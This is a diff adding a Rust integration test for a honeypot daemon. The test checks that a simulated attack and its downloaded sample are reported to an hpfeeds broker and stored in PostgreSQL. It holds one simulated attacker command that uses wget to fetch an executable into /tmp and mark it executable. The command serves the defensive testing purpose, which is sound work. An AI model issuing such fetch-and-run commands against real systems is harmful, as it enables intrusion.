@@ -534,3 +534,154 @@ fn outputs_describe_the_attack_after_its_downloads() {
     assert!(read(&events).contains("\"duplicate\":true"), "{}", read(&events));
     assert_eq!(read(&scratch.join("attackers.json")).lines().count(), 2);
 }
+
+/// The hpfeeds reference broker's venv (installed by .ci/run).
+fn hpfeeds_venv() -> Option<PathBuf> {
+    let v = PathBuf::from(std::env::var("HT_HPFEEDS_VENV").unwrap_or_else(|_| "/opt/ht-hpfeeds".into()));
+    v.join("bin/hpfeeds-broker").exists().then_some(v)
+}
+
+/// The newest PostgreSQL server of the Debian package.
+fn pg_bin() -> Option<PathBuf> {
+    let mut dirs: Vec<PathBuf> = std::fs::read_dir("/usr/lib/postgresql")
+        .ok()?
+        .filter_map(|e| e.ok().map(|e| e.path().join("bin")))
+        .filter(|b| b.join("initdb").exists() && b.join("postgres").exists())
+        .collect();
+    dirs.sort();
+    dirs.pop()
+}
+
+const HPFEEDS_SUBSCRIBER: &str = r#"
+import sys, hpfeeds
+c = hpfeeds.new('127.0.0.1', int(sys.argv[1]), 'reader', 'reader-secret', reconnect=False)
+c.subscribe(['honeytrap.events', 'honeytrap.files'])
+def on_msg(ident, chan, payload):
+    print(chan + '\t' + ident + '\t' + payload.hex(), flush=True)
+c.run(on_msg, lambda e: print('ERROR\t' + e, flush=True))
+"#;
+
+#[test]
+fn collectors_get_the_events_samples_and_records_of_the_running_daemon() {
+    if !needs("collectors_get_the_events_samples_and_records_of_the_running_daemon") {
+        return;
+    }
+    let (Some(venv), Some(pg)) = (hpfeeds_venv(), pg_bin()) else {
+        eprintln!("SKIP: needs the hpfeeds broker venv and the PostgreSQL server (.ci/run installs both)");
+        return;
+    };
+    if !cfg!(feature = "postgres") {
+        eprintln!("SKIP: built without the postgres feature");
+        return;
+    }
+    let a = sample(51, 3000);
+    let scratch = TempDir::new("collectors");
+    let d = scratch.path().display().to_string();
+
+    // PostgreSQL as the postgres user, on a Unix socket only (reachable from the sensor's
+    // network namespace through the file system).
+    let setpriv = |program: &Path| {
+        let mut c = std::process::Command::new("setpriv");
+        c.args(["--reuid=postgres", "--regid=postgres", "--clear-groups", "--"]).arg(program);
+        c
+    };
+    let init = setpriv(&pg.join("initdb"))
+        .args(["-D", &format!("{d}/pgdata"), "-U", "ht", "--auth-local=trust", "--no-locale", "-E", "UTF8"])
+        .output()
+        .unwrap();
+    assert!(init.status.success(), "initdb: {}", String::from_utf8_lossy(&init.stderr));
+    let pg_server = Server(
+        setpriv(&pg.join("postgres"))
+            .args(["-D", &format!("{d}/pgdata"), "-p", "5433", "-k", &d, "-c", "listen_addresses="])
+            .args(["-c", "fsync=off"])
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(std::fs::File::create(scratch.join("pg.log")).unwrap())
+            .spawn()
+            .unwrap(),
+    );
+    let psql = |db: &str, sql: &str| {
+        let out = std::process::Command::new("psql")
+            .args(["-h", &d, "-p", "5433", "-U", "ht", "-d", db, "-X", "-A", "-t", "-c", sql])
+            .output()
+            .ok()?;
+        out.status.success().then(|| String::from_utf8_lossy(&out.stdout).trim().to_string())
+    };
+    assert!(wait_until(T, || psql("postgres", "SELECT 1").is_some()), "{}", read(&scratch.join("pg.log")));
+    assert!(psql("postgres", "CREATE DATABASE honeytrap").is_some());
+
+    // The hpfeeds broker and a subscriber, on the loopback of the sensor namespace.
+    let lab_extra = format!(
+        "sensor_name = \"lab-2\"\n\
+         plugin-hpfeeds = {{ host = \"127.0.0.1\" port = \"10222\" ident = \"sensor\" secret = \"s3cret\" }}\n\
+         plugin-submitPostgres = {{ db_host = \"{d}\" db_port = \"5433\" db_name = \"honeytrap\" db_user = \"ht\" }}"
+    );
+    // Lab::start creates the namespaces; the broker must listen before the daemon starts
+    // publishing, but the daemon reconnects with back-off anyway.
+    let lab = Lab::start(&[("a.exe", &a)], &lab_extra);
+    run_ok("ip", &["-n", &lab.pair.srv.0, "link", "set", "lo", "up"]);
+    let broker = Server(
+        lab.pair
+            .srv
+            .command(venv.join("bin/hpfeeds-broker").to_str().unwrap())
+            .args(["--auth", "env", "--name", "lab", "--bind", "127.0.0.1:10222", "--exporter", "127.0.0.1:10223"])
+            .env("HPFEEDS_SENSOR_SECRET", "s3cret")
+            .env("HPFEEDS_SENSOR_PUBCHANS", "honeytrap.events,honeytrap.files")
+            .env("HPFEEDS_READER_SECRET", "reader-secret")
+            .env("HPFEEDS_READER_SUBCHANS", "honeytrap.events,honeytrap.files")
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(std::fs::File::create(scratch.join("broker.log")).unwrap())
+            .spawn()
+            .unwrap(),
+    );
+    let srv = lab.pair.srv.0.clone();
+    assert!(
+        in_netns(&srv, || wait_until(T, || TcpStream::connect("127.0.0.1:10222").is_ok())),
+        "{}",
+        read(&scratch.join("broker.log"))
+    );
+    let sub_out = scratch.join("subscriber.out");
+    let subscriber = Server(
+        lab.pair
+            .srv
+            .command(venv.join("bin/python").to_str().unwrap())
+            .args(["-c", HPFEEDS_SUBSCRIBER, "10222"])
+            .stdin(Stdio::null())
+            .stdout(std::fs::File::create(&sub_out).unwrap())
+            .stderr(std::fs::File::create(scratch.join("subscriber.err")).unwrap())
+            .spawn()
+            .unwrap(),
+    );
+    std::thread::sleep(Duration::from_secs(1));
+
+    // An attack with a download, once the daemon is connected to the broker.
+    assert!(wait_for_text(&lab.path("honeytrap.log"), "hpfeeds", T), "no hpfeeds line in the log:\n{}", lab.log());
+    let attack = format!("cd /tmp; wget http://{CLI4}/a.exe; chmod +x a.exe\n");
+    lab.attack(attack.clone().into_bytes());
+    lab.expect_download("a.exe", &a);
+
+    // hpfeeds: the events of the connection and the sample itself.
+    let hex = |b: &[u8]| b.iter().map(|x| format!("{x:02x}")).collect::<String>();
+    let got = |what: &str| read(&sub_out).contains(what);
+    assert!(
+        wait_until(T, || got(&format!("honeytrap.files\tsensor\t{}", hex(&a)))),
+        "{}\n{}",
+        read(&sub_out),
+        lab.log()
+    );
+    let closed = hex(b"\"eventid\":\"honeytrap.session.closed\"");
+    assert!(wait_until(T, || read(&sub_out).lines().any(|l| l.contains(&closed))), "{}", read(&sub_out));
+
+    // PostgreSQL: the attack, its download and the sample, by sha256.
+    let sha256 = |b: &[u8]| {
+        use sha2::Digest;
+        sha2::Sha256::digest(b).iter().map(|x| format!("{x:02x}")).collect::<String>()
+    };
+    let q = format!("SELECT count(*) FROM samples WHERE sha256 = '{}'", sha256(&a));
+    assert!(wait_until(T, || psql("honeytrap", &q).as_deref() == Some("1")), "no sample row; log:\n{}", lab.log());
+    assert_eq!(psql("honeytrap", "SELECT count(*) FROM attacks").as_deref(), Some("1"));
+    assert_eq!(psql("honeytrap", "SELECT filename FROM downloads").as_deref(), Some("a.exe"));
+    assert_eq!(psql("honeytrap", "SELECT name FROM sensors").as_deref(), Some("lab-2"));
+    drop((subscriber, broker, pg_server));
+}
